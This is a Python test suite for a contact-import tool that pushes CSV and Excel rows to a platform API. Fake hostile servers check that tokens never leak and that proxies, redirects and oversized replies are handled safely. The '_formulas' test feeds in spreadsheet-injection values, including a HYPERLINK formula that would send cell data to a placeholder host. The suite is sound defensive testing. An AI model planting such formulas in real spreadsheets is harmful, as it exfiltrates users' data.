"""Nothing leaked: a push run as the user runs it (``python -m addin push`` as a process) against
careless or hostile platforms on 127.0.0.1, then every trace it leaves is searched.

- A platform that echoes the token (in a message, a field name, an id, a long refusal cut
  for display, or only a piece of it): no piece of 8 characters of the token may reach the
  journal (the SQLite file and its WAL, as bytes), the status cells or side files written
  back, stdout, stderr.
- A platform whose message holds a lone surrogate (the JSON escape ``"\\ud800"``): the push
  and its rerun complete, the message keeps a visible U+FFFD.
- A proxy in the environment (``HTTP_PROXY`` and its cousins, ``NO_PROXY`` unset): a push to
  this machine never goes through it; a push to a remote HTTPS address still does.
"""

from __future__ import annotations

import csv
import http.server
import json
import os
import secrets
import stat
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from addin.connectors.connector import Record, Refused, Transient
from addin.connectors.evoliz import EvolizConnector
from addin.connectors.http import HttpClient
from addin.connectors.journal import Journal
from addin.core.profiles import get_profile
from addin.sandbox.server import SandboxServer, sandbox_in_thread, serving

#: made up per run: a leak cannot match by chance, and the repository holds no such literal
TOKEN = f"tok{secrets.token_hex(16)}"
PIECE = 8
PATIENCE = 90.0
CONTACTS = (
    "Prénom;Nom de famille;Téléphone 1\nMarie;Tremblay;+1 418-555-0134\nLuc;Roy;+1 581-555-0199\n"
)

#: what a careless platform answers to one batch: (HTTP status, JSON body as text)
Answer = Callable[[list[dict[str, object]]], tuple[int, str]]


# --- a platform that says what a test wants -----------------------------------------------------


class _Careless(http.server.BaseHTTPRequestHandler):
    server: _CarelessServer
    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        status, text = self.server.answer(body["upsert"])
        self._send(status, text.encode("utf-8"))

    def do_GET(self) -> None:
        self._send(200, b'{"items": [], "next_page": null}')

    def _send(self, status: int, data: bytes) -> None:
        self.send_response(status)
        if self.server.retry_after is not None:
            self.send_header("Retry-After", self.server.retry_after)
        if self.server.location is not None:
            self.send_header("Location", self.server.location)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""


class _CarelessServer(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, answer: Answer) -> None:
        self.answer = answer
        self.retry_after: str | None = None
        self.location: str | None = None
        super().__init__(("127.0.0.1", 0), _Careless)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def careless() -> Iterator[Callable[[Answer], _CarelessServer]]:
    """Start a careless platform with the given way of answering; stopped after the test."""
    started: list[_CarelessServer] = []

    def start(answer: Answer) -> _CarelessServer:
        server = _CarelessServer(answer)
        started.append(server)
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        threads.append(thread)
        return server

    threads: list[threading.Thread] = []
    yield start
    for server in started:
        server.shutdown()
        server.server_close()
    for thread in threads:
        thread.join()


# --- the user's side ------------------------------------------------------------------------------


def env_without_proxy(tmp_path: Path, **extra: str) -> dict[str, str]:
    proxies = {"http_proxy", "https_proxy", "all_proxy", "no_proxy"}
    env = {k: v for k, v in os.environ.items() if k.lower() not in proxies}
    env.update(CLIENT_IMPORT_DATA_DIR=str(tmp_path / "data"), CLIENT_IMPORT_TOKEN=TOKEN, **extra)
    return env


def push(path: Path, url: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "addin", "push", str(path), "-p", "reveal", "--target", url]
    return subprocess.run(
        command,
        env=env,
        cwd=path.parent,
        umask=0o022,
        capture_output=True,
        text=True,
        timeout=PATIENCE,
        check=False,
    )


def contacts(folder: Path, kind: str) -> Path:
    """Two valid contacts, as a CSV or as a workbook."""
    if kind == "csv":
        path = folder / "contacts.csv"
        path.write_text(CONTACTS, encoding="utf-8")
        return path
    path = folder / "contacts.xlsx"
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for line in CONTACTS.splitlines():
        sheet.append(line.split(";"))
    workbook.save(path)
    workbook.close()
    return path


def traces(folder: Path, done: subprocess.CompletedProcess[str]) -> list[tuple[str, bytes]]:
    """Every file of ``folder`` (journal and its WAL included; workbooks part by part), stdout
    and stderr."""
    found = [("stdout", done.stdout.encode()), ("stderr", done.stderr.encode())]
    for file in sorted(p for p in folder.rglob("*") if p.is_file()):
        found.append((str(file.relative_to(folder)), file.read_bytes()))
        if zipfile.is_zipfile(file):
            with zipfile.ZipFile(file) as archive:
                found += [(f"{file.name}!{n}", archive.read(n)) for n in archive.namelist()]
    return found


def assert_no_piece_of_token(folder: Path, done: subprocess.CompletedProcess[str]) -> None:
    found = traces(folder, done)
    assert any(name.startswith("data/journal.sqlite3") for name, _ in found)
    pieces = {TOKEN[i : i + PIECE] for i in range(len(TOKEN) - PIECE + 1)}
    for name, blob in found:
        shown = [piece for piece in pieces if piece.encode() in blob]
        assert not shown, f"{name} holds {shown}"


def assert_private(data: Path) -> None:
    """The journal's folder and files are their owner's only (the process ran with umask 022)."""
    if os.name != "posix":
        return
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    files = sorted(data.glob("journal.sqlite3*"))
    assert [f.name for f in files][:1] == ["journal.sqlite3"]
    assert {f.name: stat.S_IMODE(f.stat().st_mode) for f in files} == {f.name: 0o600 for f in files}


def side_file(path: Path) -> dict[str, dict[str, str]]:
    """``NAME.envoi.csv`` by key."""
    text = path.with_name(f"{path.stem}.envoi.csv").read_text(encoding="utf-8-sig")
    return {line["Ligne"]: line for line in csv.DictReader(text.splitlines(), delimiter=";")}


def status_cells(path: Path) -> list[tuple[object, ...]]:
    workbook = load_workbook(path)
    try:
        sheet = workbook.worksheets[0]
        return [tuple(row[-2:]) for row in sheet.iter_rows(min_row=2, values_only=True)]
    finally:
        workbook.close()


# --- a platform echoing the token ---------------------------------------------------------------


def _echo_everywhere(records: list[dict[str, object]]) -> tuple[int, str]:
    """First record created under an id that is the token; the second refused with the token
    in its message, in a field's name, and a piece of it (cut by the platform) in a field's
    message."""
    created = {"key": records[0]["key"], "status": "created", "id": f"id-{TOKEN}", "error": None}
    refused = {
        "key": records[1]["key"],
        "status": "error",
        "id": None,
        "error": {
            "message": f"jeton reçu : Bearer {TOKEN}",
            "fields": {f"first_name {TOKEN}": [f"vu {TOKEN[:12]}…"]},
        },
    }
    return 200, json.dumps({"results": [created, refused]})


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_token_echoed_in_a_message_a_field_name_or_an_id_is_written_nowhere(
    careless: Callable[[Answer], _CarelessServer], tmp_path: Path, kind: str
) -> None:
    platform = careless(_echo_everywhere)
    path = contacts(tmp_path, kind)

    done = push(path, platform.url, env_without_proxy(tmp_path))

    assert done.returncode == 1, done.stderr  # one row refused
    assert "Traceback" not in done.stderr
    assert_no_piece_of_token(tmp_path, done)
    assert_private(tmp_path / "data")
    if kind == "csv":
        said = side_file(path)
        assert said["2"]["Statut"] == "créé"
        assert said["2"]["ID plateforme"].startswith("id-")
        assert said["3"]["Statut"] == "refusé"
        assert "***" in said["3"]["Message"]  # the platform's words are kept, the token masked
    else:
        (created_status, created_id), (refused_status, _) = status_cells(path)
        assert created_status == "créé" and str(created_id).startswith("id-")
        assert str(refused_status).startswith("refusé") and "***" in str(refused_status)


def _long_refusal(records: list[dict[str, object]]) -> tuple[int, str]:
    """A 400 whose message puts the token just before the 300th character (where messages are
    cut for display): cutting before masking would show its first 20 characters."""
    message = "refusé " + "." * 251 + f" Bearer {TOKEN} — fin"  # after "bad-request — "
    return 400, json.dumps({"error": {"code": "bad-request", "message": message}})


def test_a_token_echoed_in_a_long_refusal_is_masked_before_the_cut(
    careless: Callable[[Answer], _CarelessServer], tmp_path: Path
) -> None:
    platform = careless(_long_refusal)
    path = contacts(tmp_path, "csv")

    done = push(path, platform.url, env_without_proxy(tmp_path))

    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "a refusé la requête (400)" in done.stderr
    assert_no_piece_of_token(tmp_path, done)
    assert all(line["Statut"] == "non envoyé" for line in side_file(path).values())


# --- a lone surrogate -----------------------------------------------------------------------------


def _surrogates(records: list[dict[str, object]]) -> tuple[int, str]:
    """Escapes JSON allows and UTF-8 cannot encode, in a message, a field name and an id; a C0
    control character too (XML refuses it in a cell)."""
    first, second = (json.dumps(record["key"]) for record in records)
    created = f'{{"key": {first}, "status": "created", "id": "id\\ud800-1\\u0001", "error": null}}'
    refused = (
        f'{{"key": {second}, "status": "error", "id": null, "error": {{"message": '
        '"refus \\ud800 net", "fields": {"first_name\\udc00": ["mauvais \\udfff\\u0007"]}}}'
    )
    return 200, f'{{"results": [{created}, {refused}]}}'


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_lone_surrogate_from_the_platform_is_kept_visible_and_the_push_completes_twice(
    careless: Callable[[Answer], _CarelessServer], tmp_path: Path, kind: str
) -> None:
    platform = careless(_surrogates)
    path = contacts(tmp_path, kind)
    env = env_without_proxy(tmp_path)

    for _ in range(2):  # a rerun completes too
        done = push(path, platform.url, env)

        assert done.returncode == 1, done.stderr  # the refused row, nothing else
        assert "Traceback" not in done.stderr
        if kind == "csv":
            said = side_file(path)
            assert said["2"]["ID plateforme"] == "id\ufffd-1\ufffd"
            assert "mauvais \ufffd\ufffd" in said["3"]["Message"]  # field's message shown
        else:
            (_, created_id), (refused_status, _) = status_cells(path)
            assert created_id == "id\ufffd-1\ufffd"
            assert "mauvais \ufffd\ufffd" in str(refused_status)
    with Journal.open(tmp_path / "data" / "journal.sqlite3") as journal:
        pushes = journal.history()
        messages = [e.message for e in journal.entries(pushes[0])]
    assert [p.status for p in pushes] == ["finished", "finished"]
    assert messages == [None, "refus \ufffd net"]


# --- proxies -------------------------------------------------------------------------------


@dataclass
class _Heard:
    lines: list[str] = field(default_factory=list)


class _RecordingProxy(http.server.BaseHTTPRequestHandler):
    """A proxy that writes down every request it receives (line, headers, body) and forwards
    nothing: what reaches it has left in clear."""

    server: _ProxyServer

    def _record(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
        self.server.heard.lines.append(f"{self.requestline}\n{self.headers}\n{body}")
        self.send_response(502)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_DELETE = do_CONNECT = _record

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""


class _ProxyServer(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        self.heard = _Heard()
        super().__init__(("127.0.0.1", 0), _RecordingProxy)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def proxy() -> Iterator[_ProxyServer]:
    with serving(_ProxyServer()) as server:
        yield server


@pytest.fixture
def sandbox(tmp_path: Path) -> Iterator[SandboxServer]:
    with sandbox_in_thread(tmp_path / "sandbox.sqlite", TOKEN) as server:
        yield server


@pytest.mark.parametrize(
    ("variables", "host"),
    [
        (("HTTP_PROXY", "http_proxy"), "127.0.0.1"),
        (("ALL_PROXY",), "127.0.0.1"),
        (("all_proxy", "HTTPS_PROXY"), "localhost"),
    ],
)
def test_a_push_to_this_machine_never_goes_through_a_proxy(
    proxy: _ProxyServer,
    sandbox: SandboxServer,
    tmp_path: Path,
    variables: tuple[str, ...],
    host: str,
) -> None:
    path = contacts(tmp_path, "csv")
    env = env_without_proxy(tmp_path, **dict.fromkeys(variables, proxy.url))
    target = sandbox.url.replace("127.0.0.1", host)

    done = push(path, target, env)

    assert proxy.heard.lines == []  # neither the token nor the records went to the proxy
    assert done.returncode == 0, done.stderr
    assert sandbox.api.store.count("reveal") == 2


def test_a_remote_https_platform_is_still_reached_through_the_proxy(
    proxy: _ProxyServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("NO_PROXY", "no_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HTTPS_PROXY", proxy.url)
    monkeypatch.setenv("https_proxy", proxy.url)

    with (
        HttpClient("https://plateforme.example", name="Distante", timeout=10) as client,
        pytest.raises((Transient, Refused)),
    ):
        client.request("GET", "records/x", token=TOKEN)

    # only the tunnel's address: the token travels inside TLS, never to the proxy in clear
    (heard,) = proxy.heard.lines
    assert heard.startswith("CONNECT plateforme.example:443 HTTP/1.")
    assert TOKEN not in "".join(proxy.heard.lines)


# --- injected through what the platform says ---------------------------------------------------


def _formulas(records: list[dict[str, object]]) -> tuple[int, str]:
    """Ids and messages that a spreadsheet would run if they were written as they came."""
    link = '=HYPERLINK("http://x.example/?"&A2,"clic")'
    created = {"key": records[0]["key"], "status": "created", "id": link, "error": None}
    refused = {
        "key": records[1]["key"],
        "status": "error",
        "id": "@SUM(1)",
        "error": {"message": "=1+1", "fields": {}},
    }
    return 200, json.dumps({"results": [created, refused]})


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_id_or_a_message_shaped_like_a_formula_is_written_as_text(
    careless: Callable[[Answer], _CarelessServer], tmp_path: Path, kind: str
) -> None:
    platform = careless(_formulas)
    path = contacts(tmp_path, kind)

    done = push(path, platform.url, env_without_proxy(tmp_path))

    assert done.returncode == 1, done.stderr
    if kind == "csv":
        said = side_file(path)
        assert said["2"]["ID plateforme"] == '\'=HYPERLINK("http://x.example/?"&A2,"clic")'
        assert said["3"]["ID plateforme"] == "'@SUM(1)"
    else:
        with zipfile.ZipFile(path) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        assert "<f>" not in sheet and "<f " not in sheet  # not one formula in the sheet
        (_, created_id), (refused_status, refused_id) = status_cells(path)
        assert created_id == '=HYPERLINK("http://x.example/?"&A2,"clic")'  # a text cell
        assert (refused_id, refused_status) == ("@SUM(1)", "refusé : =1+1")


def test_a_huge_retry_after_stops_the_push_at_once_instead_of_waiting_for_ever(
    careless: Callable[[Answer], _CarelessServer], tmp_path: Path
) -> None:
    platform = careless(lambda records: (429, '{"error": {"code": "rate-limited"}}'))
    platform.retry_after = "99999999999"
    path = contacts(tmp_path, "csv")

    done = push(path, platform.url, env_without_proxy(tmp_path))  # the timeout guards a hang

    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "relancez la même commande" in done.stderr
    assert all(line["Statut"] == "non envoyé" for line in side_file(path).values())


def test_a_redirect_is_not_followed_so_the_token_goes_nowhere_else(
    careless: Callable[[Answer], _CarelessServer], proxy: _ProxyServer, tmp_path: Path
) -> None:
    platform = careless(lambda records: (307, "{}"))
    platform.location = f"{proxy.url}/records/reveal/batch"  # another port of this machine
    path = contacts(tmp_path, "csv")

    done = push(path, platform.url, env_without_proxy(tmp_path))

    assert done.returncode == 1
    assert "redirige vers une autre adresse (307)" in done.stderr
    assert proxy.heard.lines == []  # neither the token nor the records were sent there


# --- bounded: what a platform says cannot fill the memory, the journal or a cell ---------------


def _enormous(records: list[dict[str, object]]) -> tuple[int, str]:
    """Valid results, padded past what any answer to a batch needs (40 MiB)."""
    results = [{"key": r["key"], "status": "created", "id": "1", "error": None} for r in records]
    return 200, json.dumps({"results": results, "padding": "x" * (40 << 20)})


def test_an_enormous_answer_is_refused_instead_of_read_whole(
    careless: Callable[[Answer], _CarelessServer], tmp_path: Path
) -> None:
    platform = careless(_enormous)
    path = contacts(tmp_path, "csv")

    done = push(path, platform.url, env_without_proxy(tmp_path))

    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "réponse trop volumineuse" in done.stderr
    assert all(line["Statut"] == "non envoyé" for line in side_file(path).values())


def _long_texts(records: list[dict[str, object]]) -> tuple[int, str]:
    """An id and messages far longer than a cell holds (32,767 characters in Excel)."""
    created = {"key": records[0]["key"], "status": "created", "id": "9" * 50_000, "error": None}
    refused = {
        "key": records[1]["key"],
        "status": "error",
        "id": None,
        "error": {"message": "m" * 50_000, "fields": {"n" * 50_000: ["v" * 50_000]}},
    }
    return 200, json.dumps({"results": [created, refused]})


def test_overlong_ids_and_messages_are_cut_before_the_journal_and_the_cells(
    careless: Callable[[Answer], _CarelessServer], tmp_path: Path
) -> None:
    platform = careless(_long_texts)
    path = contacts(tmp_path, "xlsx")

    done = push(path, platform.url, env_without_proxy(tmp_path))

    assert done.returncode == 1, done.stderr
    (_, created_id), (refused_status, _) = status_cells(path)
    assert 0 < len(str(created_id)) <= 255
    assert 0 < len(str(refused_status)) <= 32_767
    with Journal.open(tmp_path / "data" / "journal.sqlite3") as journal:
        (entry_created, entry_refused) = journal.entries(journal.history()[0])
    assert len(entry_created.platform_id or "") <= 255
    assert len(entry_refused.message or "") <= 2_000
    ((name, messages),) = entry_refused.field_errors.items()
    assert len(name) <= 255 and all(len(m) <= 2_000 for m in messages)


# --- Evoliz's connector: the same cleaning of everything it answers ----------------------------

PUBLIC_KEY = f"public-{secrets.token_hex(8)}"
SECRET_KEY = f"secret-{secrets.token_hex(12)}"


class _CarelessEvoliz(http.server.BaseHTTPRequestHandler):
    """Logs in with the token of the test, lists nothing, and refuses or creates a client by
    echoing the keys and the token in field names, messages and ids."""

    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        if self.path == "/api/login":
            self._send(200, {"access_token": TOKEN, "expires_at": None})
        elif self.server.refuse:  # type: ignore[attr-defined]
            fields = {f"name {SECRET_KEY}": [f"vu {PUBLIC_KEY} et {TOKEN[:14]}"]}
            self._send(422, {"error": f"Bearer {TOKEN}", "message": fields})
        else:
            self._send(201, {"clientid": f"{TOKEN.upper()}-1"})

    def do_GET(self) -> None:
        self._send(200, {"data": [], "meta": {"last_page": 1}})

    def _send(self, status: int, body: object) -> None:
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""


@pytest.mark.parametrize("refuse", [True, False], ids=["refused", "created"])
def test_evoliz_answers_echoing_keys_or_token_are_cleaned_whole(refuse: bool) -> None:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _CarelessEvoliz)
    server.daemon_threads = True
    server.refuse = refuse  # type: ignore[attr-defined]
    url = f"http://127.0.0.1:{server.server_address[1]}"
    record = Record("C1", {"code": "C1", "name": "Dupont", "type": "Particulier"})
    with (
        serving(server),
        EvolizConnector(get_profile("evoliz-clients").api, url, PUBLIC_KEY, SECRET_KEY) as conn,
    ):
        (outcome,) = conn.send([record], create_only=True)

    said = json.dumps([outcome.id, outcome.message, outcome.field_errors])
    for secret in (TOKEN, PUBLIC_KEY, SECRET_KEY):
        pieces = {secret[i : i + PIECE].lower() for i in range(len(secret) - PIECE + 1)}
        assert not [piece for piece in pieces if piece in said.lower()], said
    if refuse:
        assert outcome.status == "error"
        assert list(outcome.field_errors) == ["name ***"]
    else:
        assert (outcome.status, outcome.id) == ("created", "***-1")
